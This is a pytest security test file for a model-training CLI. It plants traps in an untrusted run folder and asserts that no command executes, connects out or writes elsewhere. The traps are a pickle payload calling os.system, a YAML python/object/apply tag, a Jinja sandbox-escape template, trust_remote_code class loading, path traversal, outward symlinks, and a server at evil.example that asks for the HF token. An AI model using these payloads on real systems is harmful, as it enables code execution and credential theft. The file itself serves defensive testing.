"""A run of somebody else is full of traps; every command opens it and nothing happens.

Each trap is one way in which files of a run could make a program run, connect or write elsewhere.
All commands run in one process that watches itself by an audit hook.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from transformers import TrainerState

from specialize.cli.stages import cli
from specialize.students import checkpoints
from tests.support import toys
from tests.support.commands import leaves, specialize

ROOT = Path(__file__).parents[3]
CODE = "open({mark!r}, 'w').close()\nKIND = 'number'\ndef read(path, split):\n    return []\n"


def change(world: Path, edit: Callable[[dict], None]) -> None:
    path = world / "run" / "recipe.yaml"
    values = yaml.safe_load(path.read_text())
    edit(values)
    path.write_text(yaml.safe_dump(values))


def own_code(world: Path) -> str:
    path = world / "evil.py"
    path.write_text(CODE.format(mark=str(world.parent / "ran")))
    return str(path)


def training_set(world: Path) -> None:
    name = own_code(world)
    change(world, lambda values: values["train_on"].update(set=name))


def evaluation_set(world: Path) -> None:
    name = own_code(world)
    change(world, lambda values: values["evaluation"]["sets"][0].update(set=name))


def teacher_file(world: Path) -> None:
    name = own_code(world)
    change(world, lambda values: values["teachers"]["toy"].update(model=name))


def remote_code(world: Path) -> None:
    """A student and a teacher whose configuration names a class of their own."""
    for folder in (world / "student", world / "run" / "checkpoints" / "step-000000"):
        folder.mkdir(parents=True, exist_ok=True)
        if not (folder / "config.json").is_file():
            shutil.copy(world / "student" / "config.json", folder)
        config = json.loads((folder / "config.json").read_text())
        names = {"AutoConfig": "evil.Config", "AutoModelForSeq2SeqLM": "evil.Model"}
        config |= {"auto_map": names, "model_type": "evil"}
        (folder / "config.json").write_text(json.dumps(config))
        (folder / "evil.py").write_text(CODE.format(mark=str(world.parent / "ran")))
    change(world, lambda v: v["teachers"]["toy"].update(
        model=str(world / "student"), trust_remote_code=True))  # fmt: skip


STATES = (
    "optimizer.pt",
    "scheduler.pt",
    "rng_state.pth",
    "training_args.bin",
    "trainer_state.json",
)
PICKLE = b"cposix\nsystem\n(S'touch %s'\ntR."


def pickles(world: Path) -> None:
    """A whole checkpoint in which the trainer's states are pickles."""
    evil = PICKLE % str(world.parent / "ran").encode()
    with checkpoints.writing(world / "run", 3) as folder:
        for path in (world / "student").iterdir():
            shutil.copy(path, folder)
        for name in STATES:
            (folder / name).write_bytes(evil)
        TrainerState(global_step=3, max_steps=8, train_batch_size=1).save_to_json(
            str(folder / "trainer_state.json")
        )


def pickled_weights(world: Path) -> None:
    """A student whose only weights are a pickle."""
    (world / "student" / "model.safetensors").unlink()
    evil = PICKLE % str(world.parent / "ran").encode()
    (world / "student" / "pytorch_model.bin").write_bytes(evil)


def template(world: Path) -> None:
    """A chat template that climbs to Python's classes."""
    text = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(10**9) %}{% endfor %}"
    for folder in (world / "student", world / "tokenizer"):
        (folder / "chat_template.jinja").write_text(text)


def server(world: Path) -> None:
    """A foreign address that asks for the reader's key."""
    change(world, lambda values: values["teachers"]["toy"].update(
        model="m",
        server={"kind": "openai", "urls": ["http://evil.example"], "key_variable": "HF_TOKEN"},
    ))  # fmt: skip


def names(world: Path) -> None:
    """A teacher whose name leaves the run's directory."""

    def edit(values: dict) -> None:
        values["teachers"]["../../../evil"] = values["teachers"].pop("toy")
        values["objectives"][0]["teacher"] = "../../../evil"

    change(world, edit)  # fmt: skip


def tags(world: Path) -> None:
    mark = world.parent / "ran"
    text = f"name: !!python/object/apply:os.system ['touch {mark}']\n"
    (world / "run" / "recipe.yaml").write_text(text)


def links(world: Path) -> None:
    """Folders of the run that are links to a place outside."""
    outside = Path(os.environ["TRAP_OUTSIDE"])
    for name in ("predictions", "figures", "responses"):
        (world / "run" / name).symlink_to(outside, target_is_directory=True)


TRAPS = (
    training_set, evaluation_set, teacher_file, remote_code, pickles, pickled_weights,
    template, server, names,
    tags, links,
)  # fmt: skip


@pytest.fixture(scope="module", params=[4, pytest.param(1, marks=pytest.mark.slow)])
def each(request: pytest.FixtureRequest) -> int:
    """N, where a command meets every N-th trap."""
    return request.param


@pytest.fixture(scope="module")
def findings(each: int, tmp_path_factory: pytest.TempPathFactory) -> list[dict]:
    """What every command did on the traps that it met."""
    folder = tmp_path_factory.mktemp("traps")
    outside = tmp_path_factory.mktemp("outside")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TRAP_OUTSIDE", str(outside))
        for trap in TRAPS:
            world = folder / trap.__name__
            toys.write_world(world, count=4)
            recipe = toys.toy_recipe(world)
            (world / "run" / "recipe.yaml").write_text(recipe.to_yaml())
            (world / "dump").mkdir()
            evil = PICKLE % str(folder / "ran").encode()
            for name in ("rows.pt", "samples.pkl"):
                (world / "dump" / name).write_bytes(evil)
            trap(world)
    caches = [str(ROOT), tempfile.gettempdir() + "/specialize", "/dev/", "/proc/"]
    caches += [os.environ["NUMBA_CACHE_DIR"]] if "NUMBA_CACHE_DIR" in os.environ else []
    environment = os.environ | {
        "HOME": str(folder), "TMPDIR": str(folder), "XDG_CONFIG_HOME": str(folder / "config"),
        "PYTHONDONTWRITEBYTECODE": "1",
        "TRAP_CACHES": os.pathsep.join(caches), "HF_TOKEN": "hf_secret", "HF_HUB_OFFLINE": "1",
        "SPECIALIZE_TRUST": str(folder / "trust.json"),
    }  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "tests.support.trap_commands", str(folder), str(each)],
        cwd=ROOT, env=environment, capture_output=True, text=True, timeout=600, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    assert not (folder / "ran").exists(), "a trap's code ran"
    assert list(outside.iterdir()) == [], "something was written outside"
    assert not (folder / "trust.json").exists()
    return [json.loads(line) for line in done.stdout.splitlines()]


def test_every_command_met_its_traps(each: int, findings: list[dict]) -> None:
    for words in leaves(cli):
        met = {f["trap"] for f in findings if tuple(f["arguments"][: len(words)]) == words}
        assert len(met) >= len(TRAPS) // each, f"add {words} to tests/support/trap_commands.py"


def test_nothing_ran_connected_or_wrote_elsewhere(findings: list[dict]) -> None:
    for found in findings:
        assert found["seen"] == [], f"{found['trap']}: {found['arguments']}: {found['seen']}"


def test_training_does_not_go_on_from_pickles(tmp_path: Path) -> None:
    world = tmp_path / "world"
    toys.write_world(world, count=4)
    recipe = world / "run" / "recipe.yaml"
    recipe.write_text(toys.toy_recipe(world).to_yaml())
    pickles(world)
    found = specialize(world, "train", "run/recipe.yaml", "run")
    assert found.returncode == 3
    assert "more than plain values" in found.stderr
    assert not (tmp_path / "ran").exists()


def test_every_refusal_is_one_line(findings: list[dict]) -> None:
    for found in findings:
        assert found["code"] in (0, 2, 3, 4, 7), found
        assert "Traceback" not in found["said"], found
        if found["code"]:
            errors = [line for line in found["said"].splitlines() if line.startswith("error: ")]
            assert len(errors) == 1, found
